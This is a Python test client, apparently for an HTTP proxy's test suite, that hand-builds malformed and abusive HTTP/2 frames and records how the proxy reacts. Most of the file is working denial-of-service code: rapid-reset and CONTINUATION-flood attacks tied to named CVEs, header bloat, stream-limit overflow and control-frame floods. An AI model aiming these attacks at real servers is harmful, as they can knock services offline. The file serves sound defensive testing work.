# A hostile HTTP/2 client for tests/tests/h2_hostile.rs, run INSIDE `tollgate run` with the
# test venv's interpreter (hyperframe and hpack from PyPI; h2's own state machine would
# refuse to send most of what this sends, so frames are built by hand).
#
#   h2_hostile_client.py HOST
#
# Reads one JSON command per line on stdin, e.g. {"phase": "rapid_reset", "streams": 5000},
# runs it against the proxy named by HTTPS_PROXY and prints one JSON line back:
# {"phase": ..., <what it observed>}. Each attack opens its own connection: CONNECT HOST:443
# through the proxy, TLS with ALPN h2 trusting the execution's CA (SSL_CERT_FILE), the
# client preface, then the attack. What it reports about a connection (`observed`):
#   alpn              what the handshake chose (anything but "h2" ends the phase there)
#   settings          the server's first SETTINGS, by name
#   goaway            {code, last_stream, debug} of the server's GOAWAY, if one came
#   closed            whether the server closed the connection (EOF) before the phase ended
#   status / reset    response status and RST_STREAM code per stream id
# Every wait is bounded by GUARD seconds (a guard against hangs, not a measurement).

import json
import os
import select
import socket
import ssl
import sys
import time
from urllib.parse import urlsplit

import hpack
from hpack.hpack import encode_integer
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

HOST = sys.argv[1]
GUARD = 20.0
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
SETTING_NAMES = {
    0x1: "header_table_size",
    0x2: "enable_push",
    0x3: "max_concurrent_streams",
    0x4: "initial_window_size",
    0x5: "max_frame_size",
    0x6: "max_header_list_size",
    0x8: "enable_connect_protocol",
}


def proxy_address():
    url = urlsplit(os.environ["HTTPS_PROXY"])
    return url.hostname, url.port


class Closed(Exception):
    """The server closed the connection (or stopped reading) while we were sending."""


class Wire:
    """One TCP connection to the proxy, driven by select on one thread, with TLS (when
    started) through memory BIOs. Reading goes on after a write failed: a server that
    closes a connection it is being flooded on resets it, and the GOAWAY it wrote just
    before is still in our receive queue, which a transport that closes on the first
    write error (asyncio's) would throw away."""

    def __init__(self, address=None):
        self.sock = socket.create_connection(address or proxy_address(), timeout=GUARD)
        self.sock.setblocking(False)
        self.tls = None
        self.incoming = self.outgoing = None
        self.pending = b""  # bytes for the socket, not yet sent
        self.received = b""  # plaintext not yet consumed
        self.eof = False
        self.write_failed = False

    def start_tls(self, alpn):
        context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
        context.set_alpn_protocols(list(alpn))
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.incoming, self.outgoing, server_hostname=HOST)
        deadline = time.monotonic() + GUARD
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self._queue_tls()
                if self.eof or time.monotonic() > deadline:
                    raise Closed("the TLS handshake did not finish")
                self.pump(deadline - time.monotonic())
        self._queue_tls()
        return self.tls.selected_alpn_protocol()

    def _queue_tls(self):
        if self.tls is not None:
            self.pending += self.outgoing.read()

    def write(self, data):
        """Queues `data` (plaintext) without waiting."""
        if self.tls is not None:
            self.tls.write(data)
            self._queue_tls()
        else:
            self.pending += data

    def send(self, data, backlog=256 * 1024):
        """Queues `data` and pumps until the unsent backlog is small; raises Closed when the
        connection can no longer be written (closed, reset, or not read for GUARD)."""
        if self.write_failed or self.eof:
            raise Closed("closed")
        self.write(data)
        deadline = time.monotonic() + GUARD
        while len(self.pending) > backlog:
            if self.write_failed or self.eof:
                raise Closed("closed while sending")
            if time.monotonic() > deadline:
                self.write_failed = True
                raise Closed("the server stopped reading")
            self.pump(deadline - time.monotonic())
        self.pump(0)
        if self.write_failed:
            raise Closed("the write failed")

    def pump(self, timeout):
        """One round of select: sends what it can, reads what came."""
        want_write = bool(self.pending) and not self.write_failed
        if self.eof and not want_write:
            return
        readers = [] if self.eof else [self.sock]
        writers = [self.sock] if want_write else []
        readable, writable, _ = select.select(readers, writers, [], max(timeout, 0))
        if writable:
            try:
                sent = self.sock.send(self.pending[:1 << 20])
                self.pending = self.pending[sent:]
            except BlockingIOError:
                pass
            except OSError:
                self.write_failed = True
                self.pending = b""
        if readable:
            self._read()

    def _read(self):
        while not self.eof:
            try:
                data = self.sock.recv(1 << 16)
            except BlockingIOError:
                return
            except OSError:
                data = b""
            if not data:
                self.eof = True
                if self.incoming is not None:
                    self.incoming.write_eof()
            if self.tls is None:
                self.received += data
                continue
            if data:
                self.incoming.write(data)
            while True:
                try:
                    plain = self.tls.read(1 << 16)
                except ssl.SSLWantReadError:
                    break
                except ssl.SSLZeroReturnError:
                    break
                except ssl.SSLError:
                    self.eof = True
                    break
                if not plain:  # the TCP end came (suppress_ragged_eofs)
                    break
                self.received += plain

    def read_until_closed(self):
        """Everything the peer sends until it closes (bounded by GUARD); and whether it did."""
        deadline = time.monotonic() + GUARD
        while not self.eof and time.monotonic() < deadline:
            self.pump(deadline - time.monotonic())
        data, self.received = self.received, b""
        return data, self.eof

    def close(self):
        self.sock.close()


def tunnel():
    """A CONNECT HOST:443 tunnel through the proxy; raises unless it answered 200."""
    wire = Wire()
    wire.write(f"CONNECT {HOST}:443 HTTP/1.1\r\nHost: {HOST}:443\r\n\r\n".encode())
    deadline = time.monotonic() + GUARD
    while b"\r\n\r\n" not in wire.received:
        if wire.eof or time.monotonic() > deadline:
            raise RuntimeError(f"CONNECT got no answer: {wire.received!r}")
        wire.pump(deadline - time.monotonic())
    head, _, rest = wire.received.partition(b"\r\n\r\n")
    if head.split(b" ", 2)[1] != b"200":
        raise RuntimeError(f"CONNECT answered {head!r}")
    wire.received = rest
    return wire


class Peer:
    """HTTP/2 on one intercepted tunnel: every frame the server sends is recorded as it is
    read; frames go out raw."""

    def __init__(self, wire, alpn):
        self.wire, self.alpn = wire, alpn
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self.encoder = hpack.Encoder()
        self.settings = None
        self.goaway = None
        self.status = {}
        self.reset = {}
        self.blocks = {}
        self.ping_acks = 0
        self.frames_in = 0
        self.next_stream = 1

    @classmethod
    def open(cls, alpn=("h2", "http/1.1")):
        wire = tunnel()
        peer = cls(wire, wire.start_tls(alpn))
        if peer.alpn == "h2":
            peer.send(PREFACE + SettingsFrame(0).serialize())
            peer.until(lambda: peer.settings is not None)
        return peer

    @property
    def closed(self):
        return self.wire.eof

    # -- reading ------------------------------------------------------------------------

    def _frames(self):
        """Parses the frames received so far."""
        data = self.wire.received
        while len(data) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(data[:9]))
            if len(data) < 9 + length:
                break
            frame.parse_body(memoryview(data[9 : 9 + length]))
            data = data[9 + length :]
            self.frames_in += 1
            self.on_frame(frame)
        self.wire.received = data

    def on_frame(self, frame):
        kind = type(frame).__name__
        if kind == "SettingsFrame" and "ACK" not in frame.flags:
            if self.settings is None:
                self.settings = {SETTING_NAMES.get(k, str(k)): v for k, v in frame.settings.items()}
            if not self.wire.write_failed:
                self.wire.write(SettingsFrame(0, flags=["ACK"]).serialize())
        elif kind == "GoAwayFrame":
            self.goaway = {
                "code": frame.error_code,
                "last_stream": frame.last_stream_id,
                "debug": bytes(frame.additional_data).decode("utf-8", "replace"),
            }
        elif kind == "RstStreamFrame":
            self.reset[frame.stream_id] = frame.error_code
        elif kind in ("HeadersFrame", "ContinuationFrame"):
            block = self.blocks.get(frame.stream_id, b"") + bytes(frame.data)
            if "END_HEADERS" in frame.flags:
                self.blocks.pop(frame.stream_id, None)
                headers = dict(self.decoder.decode(block))
                if ":status" in headers and frame.stream_id not in self.status:
                    self.status[frame.stream_id] = int(headers[":status"])
            else:
                self.blocks[frame.stream_id] = block
        elif kind == "PingFrame" and "ACK" in frame.flags:
            self.ping_acks += 1

    def until(self, condition, limit=GUARD):
        """Reads until `condition()` holds, the connection closes, or `limit` passes;
        returns whether the condition held."""
        deadline = time.monotonic() + limit
        self._frames()
        while not condition():
            if self.closed or time.monotonic() >= deadline:
                return condition()
            self.wire.pump(min(deadline - time.monotonic(), 0.5))
            self._frames()
        return True

    def wait_closed(self):
        """Reads until the server closes the connection; returns whether it did."""
        return self.until(lambda: self.closed)

    # -- writing ------------------------------------------------------------------------

    def send(self, data):
        try:
            self.wire.send(data)
        finally:
            self._frames()

    def stream(self):
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def request_block(self, path, method="GET", extra=()):
        headers = [(":method", method), (":scheme", "https"), (":authority", HOST), (":path", path)]
        return self.encoder.encode(headers + list(extra))

    def headers(self, sid, block, end_stream=True, end_headers=True):
        flags = (["END_HEADERS"] if end_headers else []) + (["END_STREAM"] if end_stream else [])
        return HeadersFrame(sid, data=block, flags=flags).serialize()

    def get(self, path, extra=()):
        """One request; returns its stream id (the response lands in `status`)."""
        sid = self.stream()
        self.send(self.headers(sid, self.request_block(path, extra=extra)))
        return sid

    def ping(self, payload=b"tollgate"):
        """A PING, then reads until its ACK; returns whether it came."""
        acks = self.ping_acks
        self.send(PingFrame(0, opaque_data=payload).serialize())
        return self.until(lambda: self.ping_acks > acks)

    def flood(self, frames, batch=200):
        """Sends `frames` (serialized) in batches until done or the server stops us; returns
        how many went out."""
        sent = 0
        for start in range(0, len(frames), batch):
            if self.goaway is not None or self.closed:
                break
            try:
                self.send(b"".join(frames[start : start + batch]))
            except Closed:
                break
            sent += len(frames[start : start + batch])
        return sent

    def observed(self):
        return {
            "alpn": self.alpn,
            "settings": self.settings,
            "goaway": self.goaway,
            "closed": self.closed,
            "status": {str(k): v for k, v in self.status.items()},
            "reset": {str(k): v for k, v in self.reset.items()},
            "ping_acks": self.ping_acks,
            "frames_in": self.frames_in,
        }

    def close(self):
        self.wire.close()


def not_h2(peer):
    peer.close()
    return {"alpn": peer.alpn}


# -- the attacks ------------------------------------------------------------------------


def rapid_reset(cmd):
    """CVE-2023-44487: HEADERS immediately followed by RST_STREAM(CANCEL), thousands of
    times, as fast as the connection takes them."""
    peer = Peer.open()
    if peer.alpn != "h2":
        return not_h2(peer)
    frames = []
    for i in range(cmd["streams"]):
        sid = peer.stream()
        block = peer.request_block(f"/rr/{i}")
        frames.append(peer.headers(sid, block) + RstStreamFrame(sid, error_code=CANCEL).serialize())
    sent = peer.flood(frames, batch=100)
    peer.wait_closed()
    result = {"sent": sent, **peer.observed()}
    peer.close()
    return result


def paced_reset(cmd):
    """Rapid reset where each stream is in the server's hands before it is cancelled: the
    HEADERS, a PING whose ACK says the server has read them, then the RST_STREAM. A
    server that only counts resets of streams it has not yet accepted misses this one."""
    peer = Peer.open()
    if peer.alpn != "h2":
        return not_h2(peer)
    sent = 0
    try:
        for i in range(cmd["streams"]):
            if peer.goaway is not None or peer.closed:
                break
            sid = peer.stream()
            peer.send(peer.headers(sid, peer.request_block(f"/pr/{i}")))
            if not peer.ping(i.to_bytes(8, "big")):
                break
            peer.send(RstStreamFrame(sid, error_code=CANCEL).serialize())
            sent += 1
    except Closed:
        pass
    peer.wait_closed()
    result = {"sent": sent, **peer.observed()}
    peer.close()
    return result


def continuation_flood(cmd):
    """CVE-2024-27316 family: a HEADERS without END_HEADERS, then CONTINUATION frames that
    never end the block, `shape` "empty" (zero-length frames) or "full" (16 KiB frames of
    one endless header value). Up to `frames` frames or until the server stops it."""
    peer = Peer.open()
    if peer.alpn != "h2":
        return not_h2(peer)
    sid = peer.stream()
    block = peer.request_block("/cont", extra=[("x-flood", "v")])
    frames = [peer.headers(sid, block, end_stream=True, end_headers=False)]
    if cmd["shape"] == "empty":
        frames += [ContinuationFrame(sid, data=b"").serialize()] * cmd["frames"]
        batch = 1000
    else:
        # A literal field without indexing whose value says 64 MiB: the block cannot end
        # soon, so a server that buffers it grows until something stops it.
        value_length = bytes(encode_integer(64 << 20, 7))
        start = b"\x00\x07x-flood" + value_length
        frames.append(ContinuationFrame(sid, data=start).serialize())
        chunk = ContinuationFrame(sid, data=b"a" * 16384).serialize()
        frames += [chunk] * cmd["frames"]
        batch = 8
    sent = peer.flood(frames, batch=batch)
    peer.wait_closed()
    result = {"sent": sent, **peer.observed()}
    peer.close()
    return result


def fragments(sid, block, size=16384):
    """A header block as HEADERS + CONTINUATION frames of at most `size` bytes."""
    parts = [block[i : i + size] for i in range(0, len(block), size)] or [b""]
    frames = []
    for n, part in enumerate(parts):
        flags = ["END_HEADERS"] if n == len(parts) - 1 else []
        if n == 0:
            frames.append(HeadersFrame(sid, data=part, flags=flags + ["END_STREAM"]).serialize())
        else:
            frames.append(ContinuationFrame(sid, data=part, flags=flags).serialize())
    return b"".join(frames)


def big_headers(cmd):
    """One request whose header list decodes to `kib` KiB (fields of 1 KiB, each never
    indexed so every byte is on the wire), then a normal request on the same connection."""
    peer = Peer.open()
    if peer.alpn != "h2":
        return not_h2(peer)
    big = peer.stream()
    fields = [
        hpack.HeaderTuple(f"x-big-{i}", "%04d" % i + "b" * 1020) for i in range(cmd["kib"])
    ]
    never = [hpack.NeverIndexedHeaderTuple(k, v) for k, v in fields]
    block = peer.encoder.encode(
        [(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", "/big")] + never,
        huffman=False,
    )
    after = None
    try:
        peer.send(fragments(big, block))
        peer.until(lambda: big in peer.status or big in peer.reset)
        if peer.goaway is None and not peer.closed:
            after = peer.get("/after-big")
            peer.until(lambda: after in peer.status or after in peer.reset)
    except Closed:
        pass
    if peer.goaway is not None:
        peer.wait_closed()
    result = {"big": big, "after": after, "block_bytes": len(block), **peer.observed()}
    peer.close()
    return result


def concurrency(cmd):
    """More streams than the server's SETTINGS_MAX_CONCURRENT_STREAMS, each held open (a
    POST whose body has not come: the upstream waits for it), then the bodies of those the
    server took."""
    peer = Peer.open()
    if peer.alpn != "h2":
        return not_h2(peer)
    limit = (peer.settings or {}).get("max_concurrent_streams")
    # Past `most` streams the limit is too high to be worth proving; the test says so.
    opened = min(limit if limit is not None else cmd["most"], cmd["most"]) + cmd["excess"]
    sids, frames = [], []
    for i in range(opened):
        sid = peer.stream()
        sids.append(sid)
        block = peer.request_block(f"/cc/{i}", method="POST", extra=[("content-length", "2")])
        frames.append(peer.headers(sid, block, end_stream=False))
    sent = peer.flood(frames, batch=50)
    # The PING's ACK comes after the server has read every HEADERS before it.
    pinged = peer.ping() if sent == opened else False
    refused_early = [s for s in sids if peer.reset.get(s) == 0x7]
    taken = [s for s in sids if s not in peer.reset and s not in peer.status]
    try:
        for sid in taken:
            peer.send(DataFrame(sid, data=b"ok", flags=["END_STREAM"]).serialize())
    except Closed:
        pass
    peer.until(lambda: all(s in peer.status or s in peer.reset for s in taken))
    result = {
        "limit": limit,
        "opened": opened,
        "sent": sent,
        "pinged": pinged,
        "refused": len(refused_early),
        "taken": len(taken),
        "taken_ok": sum(1 for s in taken if peer.status.get(s) == 200),
        # What the others got, when any failed: a status, or the RST_STREAM code.
        "taken_not_ok": sorted(str(peer.status.get(s, f"reset {peer.reset.get(s)}"))
                               for s in taken if peer.status.get(s) != 200),
        **peer.observed(),
    }
    result.pop("status")
    result.pop("reset")
    peer.close()
    return result


def control_flood(cmd):
    """`frames` PING frames (`kind` "ping") or SETTINGS frames ("settings") as fast as the
    connection takes them, then a normal request on the same connection if it survived."""
    peer = Peer.open()
    if peer.alpn != "h2":
        return not_h2(peer)
    if cmd["kind"] == "ping":
        one = PingFrame(0, opaque_data=b"floodpin").serialize()
    else:
        one = SettingsFrame(0, settings={0x4: 65535, 0x1: 4096}).serialize()
    sent = peer.flood([one] * cmd["frames"], batch=500)
    after = None
    try:
        if peer.goaway is None and not peer.closed:
            after = peer.get("/after-flood")
            peer.until(lambda: after in peer.status or after in peer.reset)
    except Closed:
        pass
    if peer.goaway is not None:
        peer.wait_closed()
    result = {"sent": sent, "after": after, **peer.observed()}
    peer.close()
    return result


# Connection-specific header fields (RFC 9113 §8.2.2): a request carrying any is malformed.
CONNECTION_SPECIFIC = [
    ("connection", "keep-alive"),
    ("transfer-encoding", "chunked"),
    ("upgrade", "websocket"),
    ("te", "gzip"),
    ("keep-alive", "timeout=5"),
    ("proxy-connection", "keep-alive"),
]


def connection_headers(cmd):
    """One stream per connection-specific header, then a clean stream, all on one
    connection."""
    peer = Peer.open()
    if peer.alpn != "h2":
        return not_h2(peer)
    bad = {}
    for name, value in CONNECTION_SPECIFIC:
        bad[name] = peer.get(f"/ch/bad-{name}", extra=[(name, value)])
    good = peer.get("/ch/good")
    done = lambda s: s in peer.status or s in peer.reset
    peer.until(lambda: all(done(s) for s in [good, *bad.values()]))
    result = {
        "good": good,
        "bad": {name: str(sid) for name, sid in bad.items()},
        **peer.observed(),
    }
    peer.close()
    return result


def parse_frames(data):
    """The HTTP/2 frames in `data` (or, when it is not HTTP/2, its first line)."""
    if data.startswith(b"HTTP/"):
        return {"http1": data.split(b"\r\n", 1)[0].decode("latin-1")}
    frames, goaway = [], None
    while len(data) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(data[:9]))
        if len(data) < 9 + length:
            break
        frame.parse_body(memoryview(data[9 : 9 + length]))
        data = data[9 + length :]
        frames.append(type(frame).__name__)
        if isinstance(frame, GoAwayFrame):
            goaway = {
                "code": frame.error_code,
                "last_stream": frame.last_stream_id,
                "debug": bytes(frame.additional_data).decode("utf-8", "replace"),
            }
    return {"frames": frames, "goaway": goaway, "trailing": len(data)}


def h2c(cmd):
    """HTTP/2 with prior knowledge in plain text: the preface, SETTINGS and a request,
    `where` "proxy" (straight to the proxy port), "tunnel" (the first bytes inside an
    intercepted CONNECT tunnel) or "transparent" (to HOST:80 itself, ignoring the proxy
    settings: the sandbox's resolver hands out an address tollgate redirects)."""
    if cmd["where"] == "proxy":
        wire = Wire()
    elif cmd["where"] == "tunnel":
        wire = tunnel()
    else:
        wire = Wire((socket.gethostbyname(HOST), 80))
    block = hpack.Encoder().encode(
        [(":method", "GET"), (":scheme", "http"), (":authority", HOST), (":path", "/h2c")]
    )
    try:
        wire.send(
            PREFACE
            + SettingsFrame(0).serialize()
            + HeadersFrame(1, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize()
        )
    except Closed:
        pass
    data, closed = wire.read_until_closed()
    wire.close()
    return {"closed": closed, "bytes": len(data), **parse_frames(data)}


ATTACKS = {
    "rapid_reset": rapid_reset,
    "paced_reset": paced_reset,
    "continuation_flood": continuation_flood,
    "big_headers": big_headers,
    "concurrency": concurrency,
    "control_flood": control_flood,
    "connection_headers": connection_headers,
    "h2c": h2c,
}


def fresh(cmd):
    """A well-behaved client on a fresh connection: httpx with HTTP/2 through the proxy."""
    import httpx

    with httpx.Client(http2=True, timeout=GUARD) as client:
        r = client.get(f"https://{HOST}/fresh/{cmd.get('tag', '')}")
        return {"status": r.status_code, "http_version": r.http_version}


def main():
    for line in sys.stdin:
        if not line.strip():
            continue
        cmd = json.loads(line)
        phase = cmd["phase"]
        try:
            if phase == "fresh":
                result = fresh(cmd)
            else:
                result = ATTACKS[phase](cmd)
        except Exception as e:  # reported, so the test's message says what broke
            result = {"exception": f"{type(e).__name__}: {e}"}
        print(json.dumps({"phase": phase, **result}), flush=True)


main()
